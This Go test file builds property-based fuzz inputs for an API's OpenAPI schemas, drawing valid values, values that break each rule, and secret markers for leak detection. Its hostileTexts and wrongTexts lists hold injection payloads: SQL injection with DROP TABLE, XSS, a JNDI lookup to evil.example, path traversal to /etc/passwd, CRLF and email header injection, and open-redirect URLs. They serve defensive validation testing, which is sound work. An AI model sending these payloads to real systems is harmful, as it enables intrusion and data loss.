package tests

import (
	"fmt"
	"maps"
	"slices"
	"strings"

	"github.com/getkin/kin-openapi/openapi3"
	"pgregory.net/rapid"
)

// paramsSchema returns the schema of an operation's params, whatever their encoding.
func (o *specOperation) paramsSchema() *openapi3.Schema {
	schema := o.op.RequestBody.Value.Content[o.contentType()].Schema.Value
	if !o.sensitive() {
		return schema
	}
	ref := schema.Extensions["x-decoded-schema"].(map[string]any)["$ref"].(string)
	return spec().Components.Schemas[strings.TrimPrefix(ref, "#/components/schemas/")].Value
}

// flat returns a schema without the allOf that only changes its description.
func flat(schema *openapi3.Schema) *openapi3.Schema {
	if len(schema.AllOf) == 1 {
		return schema.AllOf[0].Value
	}
	return schema
}

// value draws a value that the schema of a param allows.
func (w *fuzzed) value(schema *openapi3.Schema, name string, who *someone) any {
	schema = flat(schema)
	switch {
	case len(schema.Enum) > 0:
		return rapid.SampledFrom(schema.Enum).Draw(w.r, name)
	case schema.Type.Is("object"):
		return w.object(schema, who)
	case schema.Type.Is("array"):
		items := []any{}
		for range rapid.IntRange(int(schema.MinItems), 3).Draw(w.r, name) {
			items = append(items, w.value(schema.Items.Value, name, who))
		}
		return items
	case schema.Type.Is("boolean"):
		return rapid.Bool().Draw(w.r, name)
	}
	if known := w.worth(schema, name, who); known != nil {
		return known
	}
	switch {
	case schema.Type.Is("integer"):
		least, most := int64(*schema.Min), int64(*schema.Max)
		return rapid.OneOf(rapid.SampledFrom([]int64{least, most}), rapid.Int64Range(least, min(least+3, most)), rapid.Int64Range(least, most)).Draw(w.r, name)
	case schema.Type.Is("string"):
		return w.text(schema, name)
	}
	w.r.Fatalf("teach the fuzz to make what the schema of %s allows", name)
	return nil
}

// object draws an object with all required members. Optional ones may be absent or null, which is the same.
// The token is not drawn here, for it may be in the header.
func (w *fuzzed) object(schema *openapi3.Schema, who *someone) map[string]any {
	object := map[string]any{}
	for _, name := range slices.Sorted(maps.Keys(schema.Properties)) {
		here := "there"
		if !slices.Contains(schema.Required, name) {
			choice := []string{"absent", "absent", "there", "null"}
			if w.faithful && len(who.values[valuesFor(name)]) > 0 {
				choice = []string{"there", "absent"}
			}
			here = rapid.SampledFrom(choice).Draw(w.r, name+" is")
		}
		switch {
		case name == "token" || here == "absent":
		case here == "null":
			object[name] = nil
		default:
			object[name] = w.value(schema.Properties[name].Value, name, who)
		}
	}
	return object
}

// valuesFor returns the name under which the values of a param are stored.
func valuesFor(param string) string { return strings.TrimPrefix(param, "current_") }

// worth draws a known value of this param; in a faithful request, the person's newest. It is nil where there
// is none, or where a random value is wanted.
func (w *fuzzed) worth(schema *openapi3.Schema, name string, who *someone) any {
	name = valuesFor(name)
	if own := who.values[name]; w.faithful && len(own) > 0 {
		return own[0]
	}
	list := append(slices.Clone(who.values[name]), w.known[name]...)
	switch whose := rapid.SampledFrom([]string{"own", "another's", "made"}).Draw(w.r, "whose "+name); whose {
	case "made":
		return nil
	case "another's":
		list = append(slices.Clone(w.someone().values[name]), list...)
	}
	list = slices.DeleteFunc(list, func(value any) bool { return schema.VisitJSON(value) != nil })
	if len(list) == 0 {
		return nil
	}
	return rapid.SampledFrom(list).Draw(w.r, name)
}

// hostileTexts have a special meaning to some part of a server.
var hostileTexts = []string{
	"' OR 1=1; DROP TABLE users; --", `\'; SELECT pg_sleep(9) --`, "<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "{{.Link}}{{printf \"%s\" .}}",
	"${jndi:ldap://evil.example/a}", "%s%n%v%!d", "../../../etc/passwd", "null", "true", "0", "-1", "[object Object]", "__proto__", "%00", "%0d%0aSet-Cookie: a=b",
	"$1", "?", "%_%", `\`, "=cmd|' /C calc'!A0", "Ω≈ç√∫˜µ", "\u0130\u0131\uff21", "\U0001f469\u200d\U0001f4bb", "e\u0301\u0327", "a\u00a0b", "\u05d0\u0627",
}

var runes = rapid.RuneFrom([]rune("aZ09 '\"\\<>&%_;:{}$`/.@+-éßİﬃ漢\U0001f600\u0301٣\u00a0"))

// longText is how many characters of a text fit into a body beside other params, whatever they are.
const longText = 4096

// text draws a string that a schema allows, at its limits too. Secrets are unique, so that they can be
// searched for.
func (w *fuzzed) text(schema *openapi3.Schema, name string) string {
	least, most := int(schema.MinLength), 300
	if schema.MaxLength != nil {
		most = min(int(*schema.MaxLength), longText)
	}
	fits := func(text string) bool { return schema.VisitJSON(text) == nil }
	if slices.Contains([]string{"challenge", "slug", "accent_color"}, name) {
		return rapid.StringMatching(schema.Pattern).Filter(fits).Draw(w.r, name)
	}
	switch schema.Format {
	case "":
	case "email":
		return rapid.OneOf(
			rapid.StringMatching(`[a-zA-Z0-9.!#$%&'*+/=?^_{|}~-]{1,20}@([a-z0-9]{1,5}\.){1,3}[a-z]{2,6}`),
			rapid.StringMatching(` {0,2}[A-Za-z]{1,5}@[A-Za-z]{1,5}\.xn--[a-z0-9]{4}[ \t]{0,2}`),
			rapid.Just(strings.Repeat("a", 64)+"@"+strings.Repeat(strings.Repeat("b", 63)+".", 2)+strings.Repeat("d", most-64-1-2*64)),
		).Draw(w.r, name)
	case "redirect-url":
		at := fmt.Sprint(rapid.SampledFrom(w.known["redirect_url"]).Draw(w.r, "origin"))
		at += rapid.StringMatching(`[a-z0-9/?&=;:@#'()<>"{}|^~._-]{0,40}(%[0-9A-F]{2}){0,2}`).Draw(w.r, "path")
		at = strings.Replace(at, "#", "%23", strings.Count(at, "#")-1)
		return at + rapid.SampledFrom([]string{"", strings.Repeat("x", max(0, most-len(at)))}).Draw(w.r, "end")
	default:
		w.r.Fatalf("teach the fuzz to make texts of the format %s", schema.Format)
	}
	text := rapid.OneOf(
		rapid.SampledFrom(hostileTexts),
		rapid.StringOfN(runes, least, min(least+20, most), -1),
		rapid.SampledFrom(hostileTexts),
		rapid.Map(runes, func(r rune) string { return "a" + strings.Repeat(string(r), most-1) }),
		rapid.Map(runes, func(r rune) string { return strings.Repeat(string(r), max(least, 1)) }),
	).Filter(fits).Draw(w.r, name)
	if secret(name) && rapid.SampledFrom([]bool{true, true, true, false}).Draw(w.r, "findable") {
		mark := fmt.Sprintf("-hunter%d", len(w.secrets))
		text = string([]rune(text)[:min(len([]rune(text)), most-len(mark))]) + mark
	}
	return text
}

// secret reports whether the values of a param must not be stored.
func secret(param string) bool {
	return strings.Contains(param, "password") || strings.Contains(param, "token") || slices.Contains([]string{"code", "state", "verifier"}, param)
}

// breach is a value that breaks the schema of a param, with the name of the rule.
type breach struct {
	rule   string
	value  any
	absent bool
}

// breaches lists values that the schema of a param does not allow. Numbers that Go cannot represent are raw.
func breaches(schema *openapi3.Schema, required bool) (all []breach) {
	schema = flat(schema)
	add := func(rule string, values ...any) {
		for _, value := range values {
			all = append(all, breach{rule: rule, value: value})
		}
	}
	if required {
		add("required", nil)
		all = append(all, breach{rule: "required", absent: true})
	}
	for kind, value := range map[string]any{"string": "x", "integer": 7, "boolean": true, "object": map[string]any{}, "array": []any{}} {
		if !schema.Type.Is(kind) {
			add("type", value)
		}
	}
	slices.SortFunc(all, func(a, b breach) int { return strings.Compare(fmt.Sprint(a), fmt.Sprint(b)) })
	switch {
	case len(schema.Enum) > 0:
		last := schema.Enum[len(schema.Enum)-1].(string)
		wrong := []any{"", "x", strings.ToUpper(last), last + " "}
		add("enum", slices.DeleteFunc(wrong, func(value any) bool { return slices.Contains(schema.Enum, value) })...)
	case schema.Type.Is("integer"):
		add("minimum", raw("-1"), raw("-1e999"), int64(*schema.Min)-1)
		add("maximum", int64(*schema.Max)+1, raw("1e999"), raw("18446744073709551616"))
		add("type", raw("1.5"), raw("1e-9"))
	case schema.Type.Is("array"):
		for _, item := range breaches(schema.Items.Value, false) {
			all = append(all, breach{rule: "0 " + item.rule, value: []any{item.value}})
		}
		add("0 type", []any{nil})
	case schema.Type.Is("string"):
		if schema.MinLength > 0 {
			add("minLength", "")
		}
		if schema.MaxLength != nil {
			add("maxLength", strings.Repeat("a", int(*schema.MaxLength)+1))
			if *schema.MaxLength <= longText {
				add("maxLength", strings.Repeat("漢", int(*schema.MaxLength)+1))
			}
		}
		if schema.Pattern != "" {
			add("pattern", "a\nb", "a\u202eb", " ", "\u007f", "\ufeffa")
		}
		add("format", wrongTexts[schema.Format]...)
	}
	return all
}

// raw is JSON that is sent as it is.
type raw string

func (r raw) MarshalJSON() ([]byte, error) { return []byte(r), nil }

var wrongTexts = map[string][]any{
	"email": {"x", "@", "a@b", "a@example", "a b@example.com", "a@exam_ple.com", "ä@example.com", "a@bücher.example", "a@example.com\u0000"[:13] + "\nBcc: b@example.com",
		"a@-example.com", "a@@example.com", "<a@example.com>", "a@example.com,b@example.com", "a@[127.0.0.1]", "İ@example.com"},
	"redirect-url": {"x", "/orders", "//evil.example", "javascript:alert(1)", "http://order.example/", "https://", "https://u:p@order.example/", `https://order.example\@evil.example/`,
		"https://order.example/ a", "https://order.example/\r\nSet-Cookie:a=b", "HTTPS:order.example", `https://order.example/\evil.example`, "ftp://order.example/", "https://order.example/%zz", "https://order.example/ü", "data:text/html,x"},
}

// place is a position of a param in a tree of params.
type place struct {
	path     string
	in       map[string]any
	name     string
	schema   *openapi3.Schema
	required bool
}

// GoString is how rapid prints the place that it has drawn.
func (p place) GoString() string { return p.path }

// places lists the positions of params in the objects that are there.
func places(schema *openapi3.Schema, params map[string]any, prefix string) (all []place) {
	for _, name := range slices.Sorted(maps.Keys(schema.Properties)) {
		member := flat(schema.Properties[name].Value)
		all = append(all, place{prefix + name, params, name, member, slices.Contains(schema.Required, name)})
		if inner, ok := params[name].(map[string]any); ok {
			all = append(all, places(member, inner, prefix+name+".")...)
		}
	}
	return append(all, place{prefix, params, "", schema, false}) // of a param that no schema has
}
